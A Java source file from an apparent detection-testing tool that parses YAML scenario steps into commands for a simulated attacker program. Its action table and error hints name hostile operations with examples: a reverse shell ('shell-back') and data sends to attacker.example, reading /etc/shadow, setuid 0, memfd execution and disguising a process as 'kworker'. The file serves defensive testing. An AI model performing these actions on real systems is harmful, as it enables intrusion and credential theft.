// SPDX-License-Identifier: Apache-2.0
package io.kguard.scenario;

import io.kguard.internal.message.Nearest;
import io.kguard.internal.yaml.YamlMapping;
import io.kguard.internal.yaml.YamlValue;
import io.kguard.workload.StandIns;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Reads a step of exact system calls: the actions of {@code kguard-actor}, as the command that does them. */
final class ActReader {
    private static final int MAX_ACTIONS = 100;
    private static final int MAX_WORDS = 1000;

    /** What joins two actions on a command line. */
    private static final String THEN = "then";

    /** The actions that become another program: no other can follow. */
    private static final Set<String> LAST = Set.of("shell-back", "memfd", "as");

    /** The actions, each with the number of its arguments. */
    private static final Map<String, Arguments> ACTIONS = new LinkedHashMap<>();

    private record Arguments(int least, int most, String example) {}

    static {
        action("connect", 2, 3, "[connect, attacker.example, \"443\", hello]");
        action("connect6", 2, 3, "[connect6, attacker.example, \"443\", hello]");
        action("receive", 3, 3, "[receive, attacker.example, \"80\", hello]");
        action("send", 3, 3, "[send, attacker.example, \"53\", hello]");
        action("listen", 1, 2, "[listen, \"31337\", \"0\"]");
        action("accept", 2, 2, "[accept, attacker.example, \"8080\"]");
        action("shell-back", 3, MAX_WORDS, "[shell-back, attacker.example, \"4444\", id]");
        action("raw-socket", 0, 0, "[raw-socket]");
        action("run", 1, MAX_WORDS, "[run, sh, -c, id]");
        action("memfd", 1, MAX_WORDS, "[memfd, /usr/bin/id]");
        action("as", 2, MAX_WORDS, "[as, kworker, /usr/bin/id]");
        action("become", 1, 1, "[become, \"33\"]");
        action("setuid", 1, 1, "[setuid, \"0\"]");
        action("read", 1, 1, "[read, /etc/shadow]");
        action("read-by", 2, 2, "[read-by, openat2, /etc/shadow]");
        action("trace", 1, 1, "[trace, \"1\"]");
        action("traceme", 0, 0, "[traceme]");
        action("untrace", 1, 1, "[untrace, \"1\"]");
        action("setns", 1, 1, "[setns, /proc/1/ns/net]");
        action("userfaultfd", 0, 0, "[userfaultfd]");
        action("bpf-program", 0, 0, "[bpf-program]");
        action("bpf-map", 0, 0, "[bpf-map]");
        action("pause", 1, 1, "[pause, \"500\"]");
    }

    private ActReader() {}

    private static void action(String name, int least, int most, String example) {
        ACTIONS.put(name, new Arguments(least, most, example));
    }

    /** The names of the actions, in the order of the reference. */
    static Set<String> actions() {
        return Collections.unmodifiableSet(ACTIONS.keySet());
    }

    /** The command line of a step. */
    static List<String> command(YamlMapping act) {
        List<String> command = new ArrayList<>(List.of(program(act)));
        if (act.isEmptyList("do")) {
            act.problem("do", "\"do\" is empty", "for example [[connect, attacker.example, \"443\"]]");
        }
        String before = "";
        for (YamlValue item : act.items("do", MAX_ACTIONS)) {
            if (LAST.contains(before)) {
                item.problem("no action can follow " + before, before + " becomes another program");
            }
            if (!before.isEmpty()) {
                command.add(THEN);
            }
            List<String> words = action(item);
            command.addAll(words);
            before = words.isEmpty() ? "" : words.get(0);
        }
        return command;
    }

    private static String program(YamlMapping act) {
        String name = act.text("as");
        if (name == null) {
            return StandIns.ACTOR;
        }
        if (!StandIns.NAMES.contains(name)) {
            act.problem("as", "no program stands in for \"" + name + "\"", Nearest.hint(name, StandIns.NAMES));
        }
        return StandIns.FOLDER + "/" + name;
    }

    private static List<String> action(YamlValue item) {
        if (!item.isList()) {
            item.problem(
                    "an action must be a list, not " + item.kind(), "for example [connect, attacker.example, \"443\"]");
            return List.of();
        }
        List<String> words = item.texts(MAX_WORDS);
        String name = words.isEmpty() ? "" : words.get(0);
        Arguments arguments = ACTIONS.get(name);
        int given = words.size() - 1;
        if (arguments == null) {
            item.problem("there is no action \"" + name + "\"", Nearest.hint(name, ACTIONS.keySet()));
        } else if (given < arguments.least || given > arguments.most) {
            item.problem(
                    "the action " + name + " can't have " + given + (given == 1 ? " argument" : " arguments"),
                    "for example " + arguments.example);
        } else if (words.contains(THEN)) {
            item.problem("\"then\" can't be an argument of an action", "");
        }
        return words;
    }
}
